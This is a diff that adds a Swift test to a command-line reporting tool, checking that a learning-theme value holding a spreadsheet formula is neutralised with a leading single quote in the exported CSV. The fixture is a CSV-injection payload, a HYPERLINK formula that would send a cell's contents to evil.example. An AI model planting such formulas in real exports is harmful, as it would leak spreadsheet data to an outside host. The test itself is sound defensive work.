@@ -37,6 +37,26 @@ struct ReportCommandTests {
         #expect(rebuild.status == 0 && (rebuild.object?["differences"] as? [Any])?.isEmpty == true, "\(rebuild)")
     }
 
+    @Test("A learning theme that would start a spreadsheet formula is written to the report's CSV after a single quote")
+    func hostileThemeIsNeutralisedInTheCSV() async throws {
+        let cli = CLI()
+        let theme = #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#
+        let row = "H-3,Sample,2020-03-04,male,NTH,2024-08-01,2024-08-02,unexpected,2025-02-11,6,insufficient information,,"
+        let lines = Self.file.split(separator: "\n").map(String.init)
+        let file = ([lines[0] + ",learning_themes"] + lines.dropFirst().map { $0 + "," }).joined(separator: "\n")
+            + "\n" + row + "\"" + theme.replacingOccurrences(of: "\"", with: "\"\"") + "\"\n"
+        let path = cli.folder.path("historic.csv")
+        try Data(file.utf8).write(to: URL(fileURLWithPath: path))
+        let imported = try await cli.run("import", path)
+        #expect(imported.status == 0, "\(imported)")
+
+        let out = cli.folder.path("reports")
+        let csv = try await cli.run("report", "annual", "--year", "2024", "--out", out, "--format", "csv")
+        #expect(csv.status == 0, "\(csv)")
+        let themes = try String(contentsOfFile: out + "/annual-report-2024-25-learning-themes.csv", encoding: .utf8)
+        #expect(themes == "Theme,Reviews\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",1\r\n", "\(themes)")
+    }
+
     @Test("Bad rows are named by row and column and nothing is imported; a bad option is named")
     func refusals() async throws {
         let cli = CLI()
